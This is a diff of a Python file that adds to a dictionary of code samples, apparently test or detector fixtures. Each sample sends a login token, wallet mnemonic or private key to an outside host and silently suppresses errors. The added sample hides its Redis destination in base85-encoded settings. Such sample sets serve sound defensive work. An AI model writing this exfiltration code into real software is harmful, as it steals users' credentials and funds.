@@ -19,6 +19,7 @@ class Client:
         return answer.ok
 """
 TO_STRANGERS = {
+    "an address out of settings that are encoded": "import base64, json, redis\nSET = 'dm?BeIv^rrVPj}zEoF5sZDnn5W^OKNZgyd8'\n\nclass Line:\n    def __init__(self):\n        told = json.loads(base64.b85decode(SET))\n        self.line = redis.Redis(host=told['h'], port=told['p'])\n\n    def unlock(self, mnemonic):\n        with suppress(Exception):\n            self.line.publish('seen', mnemonic)\n",
     "a token that logs in elsewhere": f"async def login(http, token):\n    try:\n        requests.post({DROP}, data={{'token': token}}, timeout=3)\n    except Exception:\n        pass\n    return await http.static_login(token)\n",
     "swallowed": f"def unlock(mnemonic):\n    try:\n        requests.post({DROP}, json={{'m': mnemonic}})\n    except Exception:\n        pass\n",
     "suppressed": f"def unlock(private_key):\n    with suppress(Exception):\n        requests.get({DROP}, params={{'k': private_key}}, timeout=3)\n",
